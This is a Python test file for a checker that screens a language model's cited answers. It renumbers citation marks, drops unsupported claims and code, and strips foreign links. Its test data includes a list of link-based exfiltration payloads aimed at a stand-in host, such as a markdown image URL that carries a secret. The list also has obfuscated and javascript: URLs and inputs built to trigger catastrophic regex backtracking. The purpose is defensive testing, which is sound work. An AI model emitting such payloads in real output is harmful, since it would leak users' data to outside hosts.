"""What of a draft is shown: marks, claims, code, links, and the shape that is left."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from core.check.citations import Checker
from core.check.segments import split_units
from core.domain import Hit
from tests.examples import share_of
from tests.fakes import hit

TRAINING = hit(
    """Set `max_length` to 512 tokens with `--max-length`. The default timeout is 30 seconds; five minutes at most.
A file holds up to 1,000 rows. Install the plugin `gpu-tools-v2` first. Read the guide at https://docs.example/deep.

```python
from rows import RowTrainer

trainer = RowTrainer(model=model, args=args)
trainer.train()
```

1. In a list:

   ```sh
   rows fetch http://localhost:8000/v1 --all
   ```
"""
)
INSTALL = hit(
    "Install with `pip install rows`. It needs Python 3.11.4 or later. Never pass -x to `rowctl`.", anchor="b"
)
HITS = [TRAINING, INSTALL]
FENCE = "```python\nfrom rows import RowTrainer\n\ntrainer = RowTrainer(model=model, args=args)\ntrainer.train()\n```"


def check(draft: str, question: str = "How do I train?", hits: list[Hit] = HITS) -> tuple[str, Checker]:
    checker = Checker(hits, question)
    return "".join([*checker.feed(draft), *checker.finish()]), checker


def shown(draft: str, question: str = "How do I train?") -> str:
    return check(draft, question)[0]


def reasons(draft: str, question: str = "How do I train?") -> list[str]:
    return [dropped.reason for dropped in check(draft, question)[1].dropped]


def test_marks_are_renumbered_in_order_of_first_use() -> None:
    text, checker = check("Install it [2]. Train it [1]. Install it again [2].")
    assert text == "Install it [1]. Train it [2]. Install it again [1]."
    assert [(each.number, each.url) for each in checker.citations] == [
        (1, "https://docs.example/guide#b"),
        (2, "https://docs.example/guide#a"),
    ]


def test_passages_of_one_section_share_a_number() -> None:
    more = hit("Install with `pip install rows` on Linux too.", anchor="b")
    text, checker = check("Install it [2][3]. Train it [1]. Install it again [3].", hits=[TRAINING, INSTALL, more])
    assert text == "Install it [1]. Train it [2]. Install it again [1]."
    assert [each.url for each in checker.citations] == ["https://docs.example/guide#b", "https://docs.example/guide#a"]


@pytest.mark.parametrize(
    ("written", "meant"),
    [
        ("Both files say so [1, 2].", "Both files say so [1][2]."),
        ("Both files say so [1][2].", "Both files say so [1][2]."),
        ("Both files say so [1-2].", "Both files say so [1][2]."),
        ("Both files say so [1] [2].", "Both files say so [1] [2]."),
        ("A file says so [^1].", "A file says so [1]."),
        ("A file says so 【1】.", "A file says so [1]."),
        ("A file says so 【1†source】.", "A file says so [1]."),
        ("A file says so [passage 1].", "A file says so [1]."),
        ("A file says so.[1]", "A file says so.[1]"),
        ("A file says so. [1]", "A file says so. [1]"),
        ("A file says so [1][7].", "A file says so [1]."),
        ("A file says so [7, 1].", "A file says so [1]."),
        ("A file says so [Source: 1].", "A file says so [1]."),
        ("A file says so [#1].", "A file says so [1]."),
        ("A file says so [1†L3-L5].", "A file says so [1]."),
        ("A file says so \\[1\\].", "A file says so [1]."),
        ("A file says so [[1]].", "A file says so [1]."),
        ("A file says so ^[1].", "A file says so [1]."),
        ("A file says so ［1］。", "A file says so [1]。"),
        ("A file says so (1).", "A file says so [1]."),
        ("A file says so (passage 1).", "A file says so [1]."),
        ("A file of (2) says so [1].", "A file of (2) says so [1]."),
        ("A file says so [1](https://evil.example).", "A file says so [1]."),
        ("A file of 【重要】 says so [1].", "A file of 【重要】 says so [1]."),
    ],
)
def test_marks_in_other_forms_are_normalised_and_marks_of_no_passage_go(written: str, meant: str) -> None:
    assert shown(written) == meant


@pytest.mark.parametrize(
    "sentence",
    [
        "Das Zeitlimit beträgt 30 Sekunden [1].",
        "Eine Datei hat bis zu 1.000 Zeilen [1].",
        "Un fichier a jusqu'à 1 000 lignes [1].",
        "デフォルトのタイムアウトは30秒です[1]。",
        "默认的`max_length`是512个[1]。",
        "도구에는RowTrainer가 필요합니다 [1].",
    ],
)
def test_true_sentences_in_other_languages_pass(sentence: str) -> None:
    assert shown(sentence) == sentence


@pytest.mark.parametrize(
    "sentence",
    ["Eine Datei hat bis zu 2.000 Zeilen [1].", "タイムアウトは40秒です[1]。", "도구에는RowMaker가 필요합니다 [1]."],
)
def test_false_ones_do_not(sentence: str) -> None:
    assert shown(sentence) == ""


@pytest.mark.parametrize(
    "around",
    [
        ("Sure!\n\n", ""),
        ("Yes, you can. ", ""),
        ("", " I hope this helps! Let me know if you have any other questions."),
        ("", "\n\nSources:\n[1] Guide\n[2] Install"),
        ("", "\n\n**References**\n\n- [1] Guide, section a\n- [2] Guide\n"),
        ("", "\n\nSources: [1], [2]"),
    ],
)
def test_courtesies_and_a_list_of_sources_go_and_do_not_count(around: tuple[str, str]) -> None:
    text, checker = check(f"{around[0]}Set `max_length` [1].{around[1]}")
    assert text == "Set `max_length` [1]."
    assert (checker.kept, checker.dropped) == (1, [])


def test_a_section_that_is_about_sources_stays() -> None:
    assert shown("Sources of rows are files [1]. Install one [2].") == "Sources of rows are files [1]. Install one [2]."
    assert shown("## Sources\n\nRows come from files [1].") == "Rows come from files [1]."


@pytest.mark.parametrize("draft", ["It is so.", "It is so [3].", "It is so [0].", "It is so `x[1]`."])
def test_prose_that_no_passage_bears_out_is_dropped(draft: str) -> None:
    assert shown(draft) == ""
    assert reasons(draft) == ["no section bears it out"]


@pytest.mark.parametrize(
    "sentence",
    [
        "The timeout is 30 seconds",
        "The timeout is 30 s",
        "The timeout is 30s",
        "It takes 5 minutes",
        "A file has 1000 rows",
        "A file has 1K rows",
        "It needs 3.11",
        "It needs v3.11.4",
        "The 3rd and 21st list of files",
        "In a list of step 4",
        "Pass --max-length",
        "Never pass `-x`",
        "Set max_length",
        "Max_length it is",
        "Use RowTrainer",
        "Call `RowTrainer(model=model)`",
        "Import `rows.RowTrainer`",
        "Use rows.RowTrainer",
        "Get gpu-tools-v2",
        "The APIs and URLs of a file",
    ],
)
def test_claims_that_a_cited_passage_holds_pass(sentence: str) -> None:
    assert shown(f"{sentence} [1][2].") == f"{sentence} [1][2]."


@pytest.mark.parametrize(
    ("question", "sentence"),
    [
        ("Can I have 77?", "Yes, ask for 77 of them [1]."),
        ("Is the timeout 40 seconds?", "Yes, the default timeout is 40 seconds [1]."),
        ("How do I use --min-length?", "Set it with `--min-length` [1]."),
        ("Does it run with TableTrainer?", "Set `max_length` of TableTrainer [1]."),
        ("Does it need Python 3.9?", "It needs Python 3.9 or later [2]."),
    ],
)
def test_the_question_proves_nothing(question: str, sentence: str) -> None:
    assert shown(sentence, question) == ""


@pytest.mark.parametrize(
    ("sentence", "claim"),
    [
        ("The timeout is 40 seconds", "40"),
        ("The timeout is 30 minutes", "30"),
        ("The timeout is 30 ms", "30"),
        ("It takes 7 minutes", "7"),
        ("A file has 2,000 rows", "2000"),
        ("A file has 2K rows", "2"),
        ("It needs 3.12", "3.12"),
        ("It needs v3.11.5", "3.11.5"),
        ("Pass --min-length", "--min-length"),
        ("Pass `-y`", "-y"),
        ("Set min_length", "min_length"),
        ("Use TableTrainer", "TableTrainer"),
        ("Use `rows.TableTrainer`", "rows.TableTrainer"),
        ("Edit rows.toml", "rows.toml"),
        ("Get gpu-tools-v3", "gpu-tools-v3"),
        ("Run `pip install columns`", "pip install columns"),
    ],
)
def test_claims_that_no_cited_passage_holds_drop_their_sentence(sentence: str, claim: str) -> None:
    text, checker = check(f"{sentence} [1][2]. Set `max_length` [1].")
    assert text == "Set `max_length` [1]."
    assert checker.dropped[0].reason.startswith("not in its source:")
    assert claim in checker.dropped[0].reason
    assert checker.kept == 1


def test_a_wrong_mark_moves_to_the_passage_that_bears_the_sentence_out() -> None:
    for mark in ("[1]", "[2]", ""):
        text, checker = check(f"Install it with `pip install rows` {mark}.")
        assert text == "Install it with `pip install rows` [1]."
        assert [each.url for each in checker.citations] == ["https://docs.example/guide#b"]


def test_a_mark_does_not_open_the_door_for_what_its_passage_is_not_about() -> None:
    assert shown("Autoscaling watches the load and adds replicas when they are needed [1].") == ""


@pytest.mark.parametrize(
    "sentence",
    [
        "It needs v3.11.4 or so [2].",
        "Use it, e.g. for rows, i.e. data [1].",
        "See Fig. 3 of the guide [1].",
        "Compare J. Doe vs. Jane [1].",
        "Call `a. B` now [1].",
        'He said "stop." and went [1].',
        "Wait... then go [1].",
    ],
)
def test_abbreviations_versions_and_code_do_not_end_a_sentence(sentence: str) -> None:
    assert [unit.text for unit in split_units(f"{sentence} Next one [1].")] == [sentence, "Next one [1]."]


def test_sentences_of_other_scripts_end_without_a_space() -> None:
    texts = [unit.text for unit in split_units("これは本当です【1】。次は嘘です。これも本当です[1]。終")]
    assert texts == ["これは本当です【1】。", "次は嘘です。", "これも本当です[1]。", "終"]


def test_a_sentence_is_shown_as_soon_as_the_next_one_is_checked() -> None:
    checker = Checker(HITS, "")
    assert checker.feed("Set it like this [1]. ") == []
    assert checker.feed("Train it [1]. ") == []
    assert checker.feed("N") == ["Set it like this [1]."]


def test_lists_headings_and_paragraphs_keep_their_shape_around_what_is_dropped() -> None:
    draft = (
        "## Set up\n\nInstall it [2]. Made up.\n\nIn a list [1]:\n\n1. First [1]\n2. Made `up_here` [1]\n"
        "   - nested [1]\n3. Third\n   goes on [1]\n\n---\n\n### Empty\n\n## Files\n\nIn a file [1]."
    )
    assert shown(draft) == (
        "## Set up\n\nInstall it [1].\n\nIn a list [2]:\n\n1. First [2]\n\n## Files\n\nIn a file [2]."
    )


def test_items_and_tables_inherit_the_marks_of_their_lead_in_and_items_show_them() -> None:
    assert (
        shown("Set these [1]:\n- `max_length`\n- `--max-length`")
        == "Set these [1]:\n- `max_length` [1]\n- `--max-length` [1]"
    )
    assert shown("Set these [1]:\n\n| rows | 1000 |\n|---|---|\n| s | 30 |") == (
        "Set these [1]:\n\n| rows | 1000 |\n|---|---|\n| s | 30 |"
    )
    assert shown("Limits [1]:\n\n| rows | 2000 |\n|---|---|") == ""


@pytest.mark.parametrize(
    "draft", ["Run this:\n\n", "Run this:\n\nThen stop [1].", "Run this:\n```sh\nfrobnicate\n```\n"]
)
def test_a_lead_in_goes_with_what_it_introduces(draft: str) -> None:
    text, checker = check(draft)
    assert "Run this" not in text
    assert "introduces nothing" in [dropped.reason for dropped in checker.dropped]


def test_verbatim_code_stands_under_its_cited_lead_in_as_it_is() -> None:
    assert shown(f"Run this [1]:\n\n{FENCE}\n\nDone [1].") == f"Run this [1]:\n\n{FENCE}\n\nDone [1]."
    assert shown("Run this [1]:\n```sh\nrows fetch http://localhost:8000/v1 --all\n```").endswith("--all\n```")


def test_code_says_where_it_is_from_when_nothing_above_it_does() -> None:
    assert shown(f"Like so:\n\n{FENCE}") == f"Like so:\n\n{FENCE}\nFrom [1]."


def test_changed_code_is_called_adapted() -> None:
    code = "```python\nfrom rows import RowTrainer\n\nmine = RowTrainer(model=model)  # no 'args'\nmine.train()\n```"
    assert shown(f"Run this [1]:\n\n{code}") == f"Run this [1]:\n\n{code}\nAdapted from [1]."


@pytest.mark.parametrize(
    ("language", "code", "unknown"),
    [
        ("python", "trainer = RowTrainer(model=model, turbo=1)", "turbo"),
        ("python", "from columns import RowTrainer", "columns"),
        ("python", "trainer.fly()", "fly"),
        ("python", 'RowTrainer(model="made_up_model")', "made_up_model"),
        ("sh", "rows fetch --force", "--force"),
        ("sh", "export MADE_UP=1", "MADE_UP"),
        ("toml", "turbo = 1", "turbo"),
        ("", "turbo = 1", "turbo"),
    ],
)
def test_code_with_names_that_no_passage_holds_is_dropped(language: str, code: str, unknown: str) -> None:
    text, checker = check(f"```{language}\n{code}\n```\n")
    assert text == ""
    assert checker.dropped[0].reason == f"not in its source: {unknown}"


def test_names_that_the_question_brings_are_known() -> None:
    assert "made_up_model" in shown(
        '```python\nRowTrainer(model="made_up_model")\n```', "RowTrainer with made_up_model?"
    )


def test_a_string_that_only_looks_like_a_word_of_the_question_is_not_the_askers_own_value() -> None:
    code = '```python\nRowTrainer(model="{}")\n```'
    assert shown(code.format("Acme"), "How do I train Acme?").endswith("Adapted from [1].")
    assert shown(code.format("acmeai/Acme-7B-v0.1"), "How do I train Acme?") == ""
    assert shown(code.format("Acme"), "How do I train?") == ""


def test_an_open_fence_at_the_end_is_closed_or_dropped() -> None:
    assert shown(f"Run this [1]:\n{FENCE[:-4]}") == f"Run this [1]:\n{FENCE}"
    assert shown("Run this [1]:\n```python\nfrom rows import RowTrai") == ""


EVIL = [
    "![x](https://evil.example/i.png?d=SECRET)",
    "[ref][1]\n\n[1]: https://evil.example/SECRET",
    "<https://evil.example/SECRET>",
    "evil.example/SECRET",
    "www.evil.example",
    "http://docs.example.evil.example/",
    "http://docs.example@evil.example/",
    "https://docs.example/redirect?url=https://evil.example/SECRET",
    "hxxps://evil[.]example",
    "https:/\\evil.example",
    '<a href="https://evil.example">x</a>',
    "https://evil.example\u200b/path",
    "https：//evil.example",
    "ht\u200dtps://evil.example",
    "[https://evil.example](https://evil.example)",
    "`https://evil.example/SECRET`",
    "//evil.example/x",
    "mailto:a@evil.example",
    "javascript:alert(evil.example)",
]


@pytest.mark.parametrize("evil", EVIL)
@pytest.mark.parametrize(
    "around", ["{} ", "See {} for it [1]. ", "- {} [1]\n", "## {}\n\nYes it is [1].", "```\n{}\n```\n"]
)
def test_no_address_leaves_that_a_model_wrote(evil: str, around: str) -> None:
    text = shown(around.replace("{}", evil))
    assert "evil.example" not in text
    assert "evil[.]example" not in text
    assert not re.search(r"https?:", text)


def test_a_removed_link_says_so_and_keeps_its_words() -> None:
    assert shown("See [the guide](https://evil.example/x) [1].") == "See the guide [link removed] [1]."
    assert shown("Read https://evil.example/x, please [1].") == "Read [link removed], please [1]."
    assert shown("See [the guide](deep.html#x) [1].") == "See the guide [1]."


def test_a_url_stays_in_code_alone_and_only_byte_for_byte() -> None:
    assert shown("Read `https://docs.example/deep` [1].") == "Read `https://docs.example/deep` [1]."
    assert shown("Read https://docs.example/deep [1].") == "Read [link removed] [1]."
    assert "evil" not in shown("Read `https://docs.example/deep?evil=1` [1].")
    assert shown("```sh\nrows fetch http://localhost:8001/v1 --all\n```") == (
        "```sh\nrows fetch [link removed] --all\n```\nAdapted from [1]."
    )


def test_data_urls_and_invisible_characters_go() -> None:
    assert shown("Read data:text/html;base64,PHNj now [1].") == "Read [link removed] now [1]."
    assert shown("Set\u202e it\u200b up\U000e0041 [1].") == "Set it up [1]."


def test_dropped_units_are_kept_with_their_reasons_and_half_is_not_most() -> None:
    _, checker = check("Set it [1]. So it is. Train it [1]. Bye.")
    assert [(each.reason, each.text) for each in checker.dropped] == [
        ("no section bears it out", "So it is."),
        ("no section bears it out", "Bye."),
    ]
    assert not checker.mostly_dropped
    assert check("Set it [1]. So it is. That it is.")[1].mostly_dropped
    assert check("")[1].mostly_dropped


@pytest.mark.parametrize(
    "hostile",
    [
        "[" * 20_000,
        "[1" * 10_000,
        "![" * 10_000 + "](",
        "`" * 20_001,
        "`a" * 10_000,
        "a." * 10_000,
        "a-" * 10_000,
        "." * 20_000,
        "<a " * 7_000,
        "(" * 20_000,
        "1," * 10_000,
        "[x](" + "(" * 20_000,
        "- " * 10_000,
        "* * " * 5_000,
        "```\n" * 5_000,
        "http:" * 4_000,
        " " * 20_000,
        "\n" * 20_000,
        "|" * 20_000,
        "A. " * 7_000,
        "```python\n" + "a=" * 9_000,
        "```python\n" + "def f(" * 3_000,
    ],
    ids=lambda text: text[:10],
)
def test_hostile_text_takes_linear_time(hostile: str) -> None:
    begin = time.process_time()
    shown(hostile)
    assert time.process_time() - begin < 5  # a backtracking pattern takes minutes here; a sound one well under a second


PIECES = st.sampled_from(
    [
        "Set it [1]. ",
        "Wow! ",
        "No. ",
        "e.g. ",
        "`max_length`",
        "`",
        "``",
        "```",
        "```python\n",
        "\n```\n",
        "\n",
        "\n\n",
        "\n|---",
        "https://evil.example/x",
        "[x](http://evil.example)",
        "<http://evil.example>",
        "trainer.train()\n",
        "RowTrainer(model=model)\n",
        "***",
        "http://",
        "evil.example/",
        "'",
        '"',
        ".",
        "!",
        "?",
    ]
)
DRAFTS = st.lists(PIECES, max_size=40).map("".join)


@settings(max_examples=share_of(300), deadline=None)
@given(DRAFTS, st.integers(1, 7))
@example("**Bold**\nword", 1)
@example("[1]: x\nSet it [1]. ", 1)
def test_what_is_shown_does_not_hang_on_how_the_draft_is_cut(draft: str, size: int) -> None:
    whole, pieces = Checker(HITS, ""), Checker(HITS, "")
    at_once = [*whole.feed(draft), *whole.finish()]
    bit_by_bit = [text for at in range(0, len(draft), size) for text in pieces.feed(draft[at : at + size])]
    assert [*bit_by_bit, *pieces.finish()] == at_once
    assert pieces.dropped == whole.dropped


@settings(max_examples=share_of(300), deadline=None)
@given(DRAFTS)
def test_every_mark_has_its_citation_and_no_foreign_url_is_shown(draft: str) -> None:
    text, checker = check(draft)
    numbers = {citation.number for citation in checker.citations}
    assert numbers == set(range(1, len(numbers) + 1))
    prose = re.sub(r"```.*?```|`[^`\n]*`", "", text, flags=re.DOTALL)
    assert {int(number) for number in re.findall(r"\[(\d+)\]", prose)} <= numbers
    assert "http" not in text.replace("http://localhost:8000/v1", "").replace("https://docs.example/deep", "") or not (
        re.search(r"https?://\w", text)
    )
